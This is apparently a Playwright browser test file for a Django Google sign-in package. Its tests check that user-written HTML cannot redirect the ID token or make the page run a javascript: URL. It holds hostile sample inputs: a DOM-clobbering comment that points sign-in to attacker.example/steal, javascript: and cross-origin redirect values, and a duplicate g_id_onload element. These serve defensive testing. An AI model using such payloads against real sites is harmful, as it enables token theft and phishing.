"""The popup script trusts only its own configuration, in a real browser.

A site that shows user-written HTML (a comment, a profile) keeps ``id`` and
``data-*`` attributes when its sanitizer's defaults do. Such HTML placed above
``{% google_sign_in %}`` must not be able to send the ID token elsewhere or
make the page run a ``javascript:`` URL (issue 12, item 1). The example
project's home page is served for real; Playwright's router adds the hostile
HTML to it on its way to the browser, as the site itself would when showing
a visitor's comment.

Screenshots: artifacts/screenshots/13-... to 16-....
"""

from __future__ import annotations

from typing import Any

from .test_browser_sign_in import expect_signed_in, expect_signed_out

ATTACKER = "http://attacker.example"
PWNED = "pwned-by-javascript-next"

#: A visitor's "comment" that clobbers what the old script looked up by id.
CLOBBER = f"""<section class="comment"><h2>A visitor's comment</h2>
<div id="google-idtoken" data-ux-mode="popup" data-signin-url="{ATTACKER}/steal"
     data-csrf-token="x" data-next="javascript:document.title='{PWNED}'">
  <p class="google-idtoken-error" hidden></p></div>
<p>Nice site!</p></section>"""

#: Where the hostile HTML goes: above the tag, as a comment section would.
ABOVE_THE_TAG = "<h1>django-google-idtoken example</h1>"


def serve_home_with(page: Any, site: str, edit: Any) -> Any:
    """Serve the real home page (popup mode) with ``edit`` applied to its HTML;
    returns the route's URL matcher (for ``page.unroute``)."""

    def handle(route: Any) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=edit(response.text()))

    def home(url: str) -> bool:
        return url == site + "/"

    page.route(home, handle)
    return home


def watch_requests(page: Any) -> list[str]:
    urls: list[str] = []
    page.on("request", lambda request: urls.append(request.url))
    return urls


def attacker_site(page: Any) -> list[str]:
    """Answer everything sent to the attacker's origin (CORS wide open); return the log."""
    hits: list[str] = []

    def handle(route: Any) -> None:
        hits.append(f"{route.request.method} {route.request.url}")
        route.fulfill(
            status=200,
            content_type="application/json",
            headers={
                "Access-Control-Allow-Origin": route.request.headers.get("origin", "*"),
                "Access-Control-Allow-Credentials": "true",
                "Access-Control-Allow-Headers": "X-CSRFToken",
            },
            body="{}",
        )

    page.route(ATTACKER + "/**", handle)
    return hits


def test_clobbering_html_above_the_tag_changes_nothing(
    site: str, page: Any, expect: Any, shot: Any
) -> None:
    hits = attacker_site(page)
    serve_home_with(page, site, lambda html: html.replace(ABOVE_THE_TAG, ABOVE_THE_TAG + CLOBBER))
    requests = watch_requests(page)
    page.goto(site + "/")
    expect(page.locator(".comment")).to_contain_text("Nice site!")
    expect_signed_out(page, expect)
    shot("13-clobbering-comment-above-the-tag")

    page.locator("#demo-sign-in").click()
    # The token went to the real endpoint, and the page followed the tag's
    # own next, not the comment's javascript: URL.
    expect_signed_in(page, expect)
    expect(page).to_have_url(site + "/?mode=popup")
    assert site + "/auth/google/signin/" in requests
    assert hits == []
    assert page.title() == "django-google-idtoken example"
    assert not any(PWNED in url for url in requests)
    shot("14-clobbering-comment-signed-in-at-the-real-endpoint")


def test_a_next_that_is_not_a_path_on_this_site_is_never_followed(
    site: str, page: Any, expect: Any, shot: Any
) -> None:
    # The tag never renders such a next (the server drops it); the script
    # refuses it all the same: javascript:, another origin, "//host".
    errors: list[str] = []
    page.on("console", lambda message: errors.append(message.text))
    hits = attacker_site(page)
    for bad_next in (
        f"javascript:document.title='{PWNED}'",
        f"{ATTACKER}/phish",
        "//attacker.example/phish",
        "/\\attacker.example/phish",
    ):
        errors.clear()
        home = serve_home_with(
            page,
            site,
            lambda html, bad_next=bad_next: html.replace(
                'data-next="/?mode=popup"', f'data-next="{bad_next}"'
            ),
        )
        page.goto(site + "/")
        expect_signed_out(page, expect)
        with page.expect_navigation(url=site + "/"):  # a reload, not next
            page.locator("#demo-sign-in").click()
        expect_signed_in(page, expect)
        assert page.title() == "django-google-idtoken example"
        assert any("next is not a path on this site" in text for text in errors), errors
        page.unroute(home)
        page.get_by_role("button", name="Sign out").click()
        expect_signed_out(page, expect)
    assert hits == []
    shot("15-javascript-next-not-followed")


def test_a_second_g_id_onload_above_the_tag_stops_sign_in_visibly(
    site: str, page: Any, expect: Any, shot: Any
) -> None:
    # Google's library reads the first id="g_id_onload": one in the content
    # above the tag would configure Google instead of the tag's. The script
    # says so (console and the tag's message) and signs nobody in.
    errors: list[str] = []
    page.on("console", lambda message: errors.append(message.text))
    second = (
        '<div id="g_id_onload" data-client_id="attacker.apps.googleusercontent.com" '
        'data-callback="djangoGoogleIdtokenCallback"></div>'
    )
    serve_home_with(page, site, lambda html: html.replace(ABOVE_THE_TAG, ABOVE_THE_TAG + second))
    requests = watch_requests(page)
    page.goto(site + "/")
    expect(page.locator(".google-idtoken-error")).to_have_text(
        "Sign in with Google is configured twice on this page."
    )
    assert any('more than one element with id="g_id_onload"' in text for text in errors), errors
    page.locator("#demo-sign-in").click()
    expect(page.locator("#result")).to_contain_text("g_id_onload")
    expect_signed_out(page, expect)
    assert site + "/auth/google/signin/" not in requests
    shot("16-g_id_onload-twice-sign-in-off")
